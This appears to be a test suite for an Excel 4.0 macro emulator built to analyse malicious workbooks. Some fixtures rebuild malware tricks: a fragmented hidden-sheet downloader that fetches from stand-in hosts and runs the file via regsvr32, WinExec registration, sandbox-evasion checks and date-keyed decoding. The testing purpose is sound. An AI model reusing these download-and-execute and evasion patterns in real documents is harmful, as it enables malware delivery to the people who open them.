from datetime import UTC, datetime
from random import Random

import pytest

from sekisho.analyzers._xlm_book import MACRO, WORKSHEET, Book, Cell, DefinedName, Sheet
from sekisho.analyzers._xlm_commands import COMMANDS
from sekisho.analyzers._xlm_evaluator import run_book
from sekisho.analyzers._xlm_formula import parse_formula, parse_reference
from sekisho.analyzers._xlm_functions import FLAT, FUNCTIONS
from sekisho.model.errors import LimitError, MalformedError
from sekisho.model.limits import Limits


def book(macro, auto="M!$A$1", names=None, **worksheets):
    """A book with macro sheet M, worksheets, and Auto_Open; cells by address, formulas begin with =."""
    result = Book()
    for name, cells in {"M": macro, **worksheets}.items():
        sheet = Sheet(name, MACRO if name == "M" else WORKSHEET)
        for address, value in cells.items():
            ref = parse_reference(address)
            if isinstance(value, str) and value.startswith("="):
                sheet.cells[ref.row, ref.col] = Cell(0.0, parse_formula(value[1:]))
            else:
                sheet.cells[ref.row, ref.col] = Cell(value)
        result.sheets.append(sheet)
    for name, text in {**({"Auto_Open": auto} if auto else {}), **(names or {})}.items():
        result.names.append(DefinedName(name, parse_formula(text)))
    return result


def column(*lines):
    return {f"A{number}": line for number, line in enumerate(lines, 1)}


def calls(*args, **kwargs):
    return [action.text for action in run_book(book(*args, **kwargs)).actions]


def alerts(*lines, **kwargs):
    return [text for text in calls(column(*lines), **kwargs) if text.startswith("ALERT")]


def alert_of(expression, **kwargs):
    """The text that an expression gives."""
    (text,) = alerts(f"=ALERT({expression})", "=HALT()", **kwargs)
    return text[6:-1]


def test_fragments_on_hidden_sheets_become_code_that_runs_with_every_fallback():
    urls = [f"http://shop{number}.example/x/" for number in range(1, 7)]
    download = '=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"{}","..\\xdwno.ocx",0,0)'
    code = [download.format(urls[0])]
    code += [f"=IF(HRHRE{n}<0,{download.format(url)[1:]})" for n, url in enumerate(urls[1:], 1)]
    code += ["=IF(HRHRE6<0,CLOSE(0))", '=EXEC("C:\\Windows\\System32\\regsvr32.exe ..\\xdwno.ocx")', "=RETURN()"]
    fragments, writers = {}, {}
    for row, line in enumerate(code, 1):
        for col, at in zip("PHD", range(0, 3), strict=True):
            third = len(line) // 3 + 1
            fragments[f"{col}{row}"] = line[at * third : (at + 1) * third].lstrip("=" if at == 0 else "")
        writers[f"D{row}"] = f"=FORMULA(CHAR(61)&Vv1!P{row}&Vv1!H{row}&Vv1!D{row},D{row + 20})"
    names = {f"HRHRE{n}": f"M!$D${20 + n}" for n in range(1, 7)}
    outcome = run_book(book(writers, auto="M!$D$1", names=names, Vv1=fragments))
    downloads = [action.args[4] for action in outcome.actions if action.name == "CALL"]
    assert downloads == urls
    assert [action.args[0] for action in outcome.actions if action.name == "EXEC"] == [
        "C:\\Windows\\System32\\regsvr32.exe ..\\xdwno.ocx"
    ]
    assert outcome.written_ran
    assert outcome.limit is None


@pytest.mark.parametrize(
    ("expression", "shown"),
    [
        ('CHAR(72)&CHAR(105)&" "&1+1', '"Hi 2"'),
        ('MID("xcalcx",2,4)&LEFT("exe.",3)&RIGHT("abc")', '"calcexec"'),
        ('SUBSTITUTE("c-a-l-c","-","")', '"calc"'),
        ('SUBSTITUTE("a-b-c","-","+",2)', '"a-b+c"'),
        ('REPLACE("hXXp",2,2,"tt")', '"http"'),
        ('CONCATENATE("a",1,TRUE)', '"a1TRUE"'),
        ('REPT("ab",3)&UPPER("x")&TRIM("  a  b ")', '"abababXa b"'),
        ('CODE("A")+LEN("abc")', "68"),
        ('SEARCH("win","Windows")&FIND("d","Windows")', '"14"'),
        ('ISNUMBER(SEARCH("*dow?","Windows"))', "TRUE"),
        ('TEXT(1234.5,"#,##0.00")&TEXT(7,"000")', '"1,234.50007"'),
        ('TEXT(44676,"yyyy-mm-dd")', '"2022-04-25"'),
        ('VALUE("12")*MOD(-7,3)+INT(-1.5)', "22"),
        ("ROUND(2.5,0)&ROUNDDOWN(-2.7,0)&ROUNDUP(2.1,0)", '"3-23"'),
        ("SUM(W!A1:A3)&COUNTA(W!A1:B9)", '"65"'),
        ("INDEX(W!A1:B3,2,1)&INDEX({1,2;3,4},2,2)", '"24"'),
        ("OFFSET(W!A1,2,0)&INDIRECT(\"W!B1\")&INDIRECT(\"R1C1\",FALSE)", '"3text0"'),
        ("ADDRESS(2,3)&ADDRESS(2,3,4)&ADDRESS(2,3,1,FALSE)", '"$C$2C2R2C3"'),
        ("ROW(W!B7)&COLUMN(W!B7)&ROWS(W!A1:A4)", '"724"'),
        ('VLOOKUP(2,W!A1:A3,1,FALSE)&MATCH(3,W!A1:A3,0)&HLOOKUP("text",W!B1:B3,2,FALSE)', '"23more"'),
        ('CHOOSE(2,"a","b")&IF(1>2,"x","y")&IFERROR(1/0,"z")', '"byz"'),
        ('AND(TRUE,1)&OR(FALSE,0)&NOT(TRUE)', '"TRUEFALSEFALSE"'),
        ('"a"="A"', "TRUE"),
        ('1<"a"', "TRUE"),
        ("-2^2&50%", '"40.5"'),
        ("T(5)&N(TRUE)&T(\"x\")", '"1x"'),
        ("COUNTIF(W!A1:A3,\">1\")&SUMIF(W!A1:A3,2)", '"22"'),
        ('HEX2DEC("41")&DEC2HEX(255)&BIN2DEC("101")', '"65FF5"'),
        ('EVALUATE("1+2")', "3"),
        ('_xlfn.CONCAT("a","b")&_xlfn.UNICHAR(65)', '"abA"'),
        ("1/0", "#DIV/0!"),
        ("nothing_of_that_name", "#NAME?"),
        ("Gone!A1", "#REF!"),
        ('REPT("a",40000)', "#VALUE!"),
        ("LEFT()", "#VALUE!"),
    ],
)  # fmt: skip
def test_functions(expression, shown):
    sheet = {"A1": 1.0, "A2": 2.0, "A3": 3.0, "B1": "text", "B2": "more"}
    assert alert_of(expression, W=sheet) == shown


def test_names_given_either_way():
    assert alerts('=SET.NAME("part","http://")', '=rest="a.example/"', "=ALERT(part&rest)", "=HALT()") == [
        'ALERT("http://a.example/")'
    ]


def test_defined_names_and_formulas_of_names():
    assert alert_of("both", names={"one": '"a"', "both": "one&W!A1"}, W={"A1": "b"}) == '"ab"'
    assert alerts('=DEFINE.NAME("x","=""c""&1")', "=ALERT(x)", "=HALT()") == ['ALERT("c1")']


def test_goto_run_and_subroutines_with_arguments():
    macro = {
        "A1": "=RUN(B1)",
        "A2": '=ALERT(C1("x","y"))',
        "A3": "=GOTO(D9)",
        "A4": '=ALERT("never")',
        "B1": '=ALERT("sub")',
        "B2": "=RETURN()",
        "C1": '=ARGUMENT("first")',
        "C2": '=ARGUMENT("second")',
        "C3": "=RETURN(second&first)",
        "D9": '=ALERT("end")',
        "D10": "=HALT()",
    }
    assert calls(macro) == [
        'ALERT("sub")',
        'ALERT("yx")',
        'ALERT("end")',
        'ALERT("never")',
    ]  # last: what nothing reached


def test_loops_put_text_together():
    assert alerts(
        '=SET.NAME("t","")', '=FOR("i",1,3)', '=SET.NAME("t",t&CHAR(64+i))', "=NEXT()", "=ALERT(t)", "=HALT()"
    ) == ['ALERT("ABC")']
    assert alerts('=SET.NAME("n",0)', "=WHILE(n<3)", '=SET.NAME("n",n+1)', "=NEXT()", "=ALERT(n)", "=HALT()") == [
        "ALERT(3)"
    ]
    assert alerts(
        '=SET.NAME("t","")', '=FOR.CELL("c",W!A1:A3)', '=SET.NAME("t",t&c)', "=NEXT()", "=ALERT(t)", "=HALT()",
        W={"A1": "x", "A2": "y", "A3": "z"},
    ) == ['ALERT("xyz")']  # fmt: skip


def test_a_loop_that_only_passes_time_costs_nothing():
    outcome = run_book(book(column('=FOR("i",1,1000000000)', "=NEXT()", "=ALERT(i)", "=HALT()")))
    assert [action.text for action in outcome.actions] == ["ALERT(1000000000)"]
    assert outcome.limit is None


def test_block_if():
    assert alerts(
        "=IF(1>2)", '=ALERT("a")', "=ELSE.IF(2>1)", '=ALERT("b")', "=ELSE()", '=ALERT("c")', "=END.IF()",
        '=ALERT("d")', "=HALT()",
    )[:2] == ['ALERT("b")', 'ALERT("d")']  # fmt: skip


def test_both_ways_of_an_unknown_condition():
    assert calls(column('=SET.NAME("ok",CALL("a","b","J"))', "=IF(ok=0,GOTO(A5),)", '=ALERT("fell")', "=HALT()",
                        '=ALERT("jumped")', "=HALT()"))[1:] == ['ALERT("jumped")', 'ALERT("fell")']  # fmt: skip


def test_a_branch_takes_its_changes_back():
    lines = ('=SET.NAME("x",1)', '=IF(CALL("a","b","J")=0,GOTO(A5),)', "=ALERT(x)", "=HALT()", '=SET.NAME("x",2)',
             "=ALERT(x)", "=HALT()")  # fmt: skip
    assert alerts(*lines) == ["ALERT(2)", "ALERT(1)"]


def test_register_gives_its_alias_a_meaning():
    assert (
        calls(
            column(
                '=REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Fetch",,1,9)',
                '=Fetch(0,"http://a.example/x","C:\\x",0,0)',
            )
        )[1]
        == 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.example/x","C:\\x",0,0)'
    )
    assert calls(column('=REGISTER("Kernel32","WinExec","JCJ")', '=CALL(A1,"calc.exe",0)', "=HALT()"))[1] == (
        'CALL("Kernel32","WinExec","JCJ","calc.exe",0)'
    )


def test_files_are_put_together():
    outcome = run_book(
        book(
            column(
                '=FOPEN("C:\\ProgramData\\x.vbs",3)',
                '=FWRITELN(A1,"a"&"b")',
                '=FWRITE(A1,"c")',
                "=FCLOSE(A1)",
                "=HALT()",
            )
        )
    )
    assert {path: "".join(lines) for path, lines in outcome.files.items()} == {"C:\\ProgramData\\x.vbs": "ab\r\nc"}


def test_a_sandbox_check_is_answered_as_by_a_desktop_and_recorded():
    outcome = run_book(
        book(column("=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", "=IF(GET.WORKSPACE(19),,CLOSE(TRUE))",
                    '=IF(ISNUMBER(SEARCH("Windows",GET.WORKSPACE(1))),ALERT("on"),CLOSE(TRUE))', "=HALT()"))
    )  # fmt: skip
    assert [action.text for action in outcome.actions] == ['ALERT("on")']
    assert list(outcome.checks) == ["GET.WORKSPACE(13)", "GET.WORKSPACE(19)", "GET.WORKSPACE(1)"]


@pytest.mark.parametrize("day", [3, 28])
def test_text_keyed_to_a_day_of_the_month(day):
    key = "&".join(f"CHAR({ord(letter) + day}-DAY(NOW()))" for letter in '=EXEC("cmd /c ver")')
    outcome = run_book(book(column(f"=FORMULA({key},A2)", "", "=HALT()")), clock=datetime(2022, 4, 11, tzinfo=UTC))
    assert 'EXEC("cmd /c ver")' in [action.text for action in outcome.actions]


def test_scheduled_macros_run_at_the_end():
    macro = {"A1": '=ON.TIME(NOW()+1,"Later")', "A2": "=HALT()", "C1": '=EXEC("calc")', "C2": "=HALT()"}
    assert calls(macro, names={"Later": "M!$C$1"})[-1] == 'EXEC("calc")'


def test_what_nothing_reaches_is_run_when_it_acts():
    assert calls({"A1": "=HALT()", "C5": '=EXEC("a"&"b")', "E1": "=1+1"}) == ['EXEC("ab")']


def test_without_an_automatic_name_the_first_formula_starts():
    assert calls(column('=ALERT("x")', "=HALT()"), auto="") == ['ALERT("x")']


def test_formula_takes_r1c1_and_the_active_cell():
    macro = {
        "A1": '=FORMULA("=ALERT(R[-1]C[1])",A4)',
        "A2": "=SELECT(A5)",
        "A3": '=FORMULA("=HALT()")',
        "B3": "beside",
    }
    assert 'ALERT("beside")' in calls(macro)


def test_a_constant_written_over_a_formula_ends_it():
    assert alerts('=FORMULA("x",A2)', '=ALERT("gone")', "=ALERT(A2)", "=HALT()") == ['ALERT("x")']


def test_unknown_parts_stay_readable():
    assert alert_of('"http://a.example/"&RAND()&".dat"') == '"http://a.example/"&RAND()&".dat"'


@pytest.mark.parametrize(
    "lines",
    [
        ("=GOTO(A1)",),
        ("=WHILE(TRUE)", "=NEXT()", '=ALERT("after")'),
        ("=RUN(A1)",),
        ("=A1()",),
        ('=IF(CALL("a","b","J"),GOTO(A1),GOTO(A1))',),
        ('=FORMULA("=GOTO(R1C1)",A2)', "=HALT()"),
        ("=A2", "=A1"),
    ],
)
def test_endless_macros_end(lines):
    outcome = run_book(book(column(*lines)))
    assert outcome.limit is None
    assert len(outcome.actions) < 10


def test_a_limit_keeps_what_was_found():
    lines = ('=ALERT("first")', '=SET.NAME("n",0)', "=WHILE(n>=0)", '=SET.NAME("n",n+1)', "=NEXT()")
    outcome = run_book(book(column(*lines)), Limits(steps=5_000))
    assert [action.text for action in outcome.actions] == ['ALERT("first")']
    assert isinstance(outcome.limit, LimitError)
    assert outcome.limit.limit == "steps"


def test_hostile_macros_only_reach_limits():
    random = Random(11)
    functions = [*COMMANDS, *COMMANDS, *FUNCTIONS, *FLAT]
    leaves = ["A1", "B3", "W!A1:B9", "A:A", "n", "1", "-1", "1E+300", '"abc"', '"=GOTO(R1C1)"', '"R1C1"', "{1,2;3,4}",
              "TRUE", "#N/A", "", "NOW()", "RAND()", "A3()"]  # fmt: skip

    def expression(depth):
        if depth == 0 or random.random() < 0.25:
            return random.choice(leaves)
        args = ",".join(expression(depth - 1) for _ in range(random.choice((0, 1, 2, 3, 4))))
        return f"{random.choice(functions)}({args})"

    for _ in range(60):
        cells = {f"{col}{row}": f"={expression(3)}" for row in range(1, 9) for col in "AB"}
        try:
            run_book(book(cells, names={"n": "M!B2"}, W={"A1": "x", "B2": 2.0}), Limits(steps=4_000))
        except MalformedError:
            continue
